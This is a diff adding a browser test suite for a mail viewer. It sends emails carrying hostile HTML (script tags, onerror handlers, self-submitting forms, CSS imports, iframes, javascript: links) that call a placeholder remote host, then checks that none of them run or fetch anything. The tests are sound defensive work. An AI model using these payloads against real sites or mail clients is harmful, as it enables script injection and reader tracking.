@@ -1,0 +1,97 @@
+// Mail that attacks its reader: nothing of it runs, submits, navigates, or asks another server for anything.
+import { afterAll, beforeAll, expect, test } from "bun:test";
+import type { Page } from "playwright-core";
+import { inBrowser } from "./support/browser.ts";
+
+/** `REMOTE` stands for the address of a server that must never be asked. */
+const ATTACKS: Record<string, string> = {
+  "a script": `<script>top.pwned = 1; fetch("REMOTE/script")</script>`,
+  "a script from elsewhere": `<script src="REMOTE/script.js"></script>`,
+  "an onerror handler": `<img src="x" onerror="top.pwned = 1; fetch('REMOTE/onerror')">`,
+  "a form that submits itself": `<form id="f" action="REMOTE/form"><button id="go" autofocus onfocus="f.submit()">Go</button></form>`,
+  "a meta refresh": `<meta http-equiv="refresh" content="0;url=REMOTE/refresh">`,
+  "a base address": `<base href="REMOTE/"><img src="based.png"><a id="go" href="based">Go</a>`,
+  "a script in SVG": `<svg xmlns="http://www.w3.org/2000/svg"><script>top.pwned = 1</script><image href="REMOTE/svg.png"/></svg>`,
+  "a style import": `<style>@import "REMOTE/import.css"; body { background: url(REMOTE/background.png) }</style>`,
+  "a linked style sheet": `<link rel="stylesheet" href="REMOTE/linked.css"><link rel="prefetch" href="REMOTE/prefetch">`,
+  "a remote image": `<img src="REMOTE/image.png" srcset="REMOTE/image2.png 2x">`,
+  "a frame": `<iframe src="REMOTE/frame"></iframe><object data="REMOTE/object"></object><embed src="REMOTE/embed">`,
+  "a frame of this page": `<iframe src="/"></iframe>`,
+  "a javascript link": `<a id="go" href="javascript:top.pwned=1">Go</a>`,
+  "a link for the whole window": `<a id="go" href="about:blank" target="_top">Go</a>`,
+  "media and fonts": `<video src="REMOTE/video" poster="REMOTE/poster.png" autoplay></video><style>@font-face { font-family: x; src: url(REMOTE/font) } body { font-family: x }</style>`,
+  "broken markup": `<img src="x" onerror=top.pwned=1 <script>top.pwned=1</script <style><img src="</style><img src=x onerror=top.pwned=1>">`,
+};
+
+inBrowser("hostile mail", (bench) => {
+  const asked: string[] = [];
+  const elsewhere = Bun.serve({
+    port: 0,
+    hostname: "127.0.0.1",
+    fetch: ({ url }) => {
+      asked.push(new URL(url).pathname);
+      return new Response("body { color: red }");
+    },
+  });
+  const remote = `http://127.0.0.1:${elsewhere.port}`;
+
+  beforeAll(async () => {
+    for (const [name, html] of Object.entries(ATTACKS)) {
+      await bench().mailkeep.send({ subject: `With ${name}`, html: html.replaceAll("REMOTE", remote) });
+    }
+  });
+  afterAll(() => elsewhere.stop(true));
+
+  test("does nothing and asks nobody", async () => {
+    const { open, mailkeep } = bench();
+    const page = await open();
+    page.on("dialog", (dialog) => asked.push(`dialog ${dialog.message()}`));
+    for (const name of Object.keys(ATTACKS)) {
+      const address = `${mailkeep.http}/messages/${await mailkeep.idOf(`With ${name}`)}`;
+      await page.goto(address);
+      await provoke(page);
+      const pwned = await page.evaluate(() => "pwned" in window);
+      expect({ name, pwned, address: page.url(), asked }).toEqual({ name, pwned: false, address, asked: [] });
+    }
+  });
+
+  test("gets its remote images only when a person allows them for this message", async () => {
+    const { open, mailkeep } = bench();
+    const page = await open(`/messages/${await mailkeep.idOf("With a remote image")}`);
+    await page.getByText("Remote images are blocked").waitFor();
+    const image = page.waitForRequest(/image/);
+    await page.getByRole("button", { name: "Load for this message" }).click();
+    await image;
+    await page.getByText("Remote images are blocked").waitFor({ state: "detached" });
+    await page.goto(`${mailkeep.http}/messages/${await mailkeep.idOf("With a style import")}`);
+    await page.getByText("Remote images are blocked").waitFor();
+    expect(asked.filter((path) => !path.startsWith("/image"))).toEqual([]);
+  });
+
+  test("in an attachment is never opened as a page of ours", async () => {
+    const { open, mailkeep } = bench();
+    await mailkeep.send({
+      subject: "Page attached",
+      attachments: [
+        { filename: "page.html", content: "<script>top.pwned = 1</script>", contentType: "text/html" },
+      ],
+    });
+    const id = await mailkeep.idOf("Page attached");
+    const page = await open(`/messages/${id}?tab=attachments`);
+    await page.getByText("page.html").waitFor();
+    expect(await page.getByRole("button", { name: "View page.html" }).count()).toBe(0);
+  });
+});
+
+/** Loads the mail and clicks what it wants clicked. */
+async function provoke(page: Page): Promise<void> {
+  const frame = page.frameLocator("iframe.html-frame");
+  await frame.locator("body").waitFor({ state: "attached" });
+  const bait = frame.locator("#go");
+  if ((await bait.count()) > 0) await bait.click({ noWaitAfter: true });
+  // Two frames drawn and one answer from the server: what was going to happen has happened.
+  await page.evaluate(async () => {
+    await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
+    await fetch("/api/v1/info");
+  });
+}
